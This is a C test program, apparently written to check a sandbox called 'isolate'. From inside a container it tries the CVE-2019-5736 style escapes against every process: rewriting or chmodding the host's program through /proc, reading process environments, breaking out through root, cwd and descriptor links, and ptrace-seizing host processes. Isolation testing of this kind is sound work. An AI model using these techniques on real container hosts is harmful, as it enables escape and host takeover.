/*
 * Waits inside a container for a program of the host's that comes in, as `docker exec` of a hostile container's was
 * waited for (CVE-2019-5736). Usage: lurk SECONDS. It looks at every process but its own all the time, and tries to
 * change the program's file, to write to it when it is no longer run, to read its memory and environment, to steal its
 * descriptors, and to leave by its root, working directory and descriptors. For whatever succeeds it prints a line,
 * "TAKEN what"; "seen" once it has seen a process at all.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static struct stat own_root;

static void taken(const char *what)
{
	printf("TAKEN %s\n", what);
	fflush(stdout);
}

/* A directory of the host's: not the root here, nor below it. */
static int is_outside(const char *link)
{
	char path[300];
	struct stat there;
	snprintf(path, sizeof path, "%s/../../../../../../../../../../..", link);
	return stat(path, &there) == 0 && (there.st_dev != own_root.st_dev || there.st_ino != own_root.st_ino);
}

/* A file that has its name in the container is one of the container's, which may be changed. */
static int is_the_containers(int handle, const struct stat *program)
{
	char name[4096], link[64];
	struct stat named;
	snprintf(link, sizeof link, "/proc/self/fd/%d", handle);
	int n = readlink(link, name, sizeof name - 1);
	if (n <= 0)
		return 0;
	name[n] = 0;
	return stat(name, &named) == 0 && named.st_dev == program->st_dev && named.st_ino == program->st_ino;
}

static void lurk_at(int pid)
{
	static int seen;
	char path[200], text[4096];
	struct stat program;
	int fd, n;

	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	if ((fd = open(path, O_RDONLY)) >= 0) {
		if ((n = read(fd, text, sizeof text)) >= 7 && !memcmp(text, "isolate", 7))
			seen++ || (puts("seen"), fflush(stdout));
		close(fd);
	}
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	/* Kept, for the moment at which nobody runs it any more. */
	int handle = open(path, O_PATH);
	if (handle >= 0 && fstat(handle, &program) == 0 && !is_the_containers(handle, &program)) {
		if (chmod(path, 06777) == 0 && fstat(handle, &program) == 0 && (program.st_mode & 06000))
			taken("mode of the program");
		if (chown(path, 65534, 65534) == 0)
			taken("owner of the program");
		snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
		for (int tries = 0; tries < 200; tries++) {
			fd = open(path, O_WRONLY | O_APPEND);
			if (fd >= 0) {
				if (write(fd, "x", 1) == 1)
					taken("content of the program");
				close(fd);
				break;
			}
			if (errno != ETXTBSY)
				break;
		}
	}
	if (handle >= 0)
		close(handle);
	snprintf(path, sizeof path, "/proc/%d/environ", pid);
	if ((fd = open(path, O_RDONLY)) >= 0) {
		n = read(fd, text, sizeof text - 1);
		if (n > 0 && memmem(text, n, "LURK_SECRET", 11))
			taken("environment");
		close(fd);
	}
	snprintf(path, sizeof path, "/proc/%d/cwd", pid);
	if (is_outside(path))
		taken("working directory");
	snprintf(path, sizeof path, "/proc/%d/root", pid);
	if (is_outside(path))
		taken("root directory");
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	DIR *list = opendir(path);
	for (struct dirent *entry; list && (entry = readdir(list));) {
		snprintf(path, sizeof path, "/proc/%d/fd/%.20s", pid, entry->d_name);
		if (entry->d_name[0] == '.')
			continue;
		if (is_outside(path))
			taken("directory descriptor");
		if ((n = readlink(path, text, sizeof text - 1)) > 0) {
			text[n] = 0;
			if (strstr(text, "lurk-secret"))
				taken("descriptor of a file");
		}
	}
	if (list)
		closedir(list);
	/* Only the programs of the host are of interest; those of the container may well be traced. */
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	n = readlink(path, text, sizeof text - 1);
	if (n > 0 && (text[n] = 0, strstr(text, "isolate") || strstr(text, "memfd:")) && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
		taken("the process itself");
}

int main(int argc, char **argv)
{
	if (argc != 2 || stat("/", &own_root) < 0)
		return 2;
	time_t end = time(NULL) + atoi(argv[1]);
	int self = getpid();
	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		for (struct dirent *process; (process = readdir(proc));) {
			int pid = atoi(process->d_name);
			if (pid > 0 && pid != self)
				lurk_at(pid);
		}
		closedir(proc);
	}
	return 0;
}
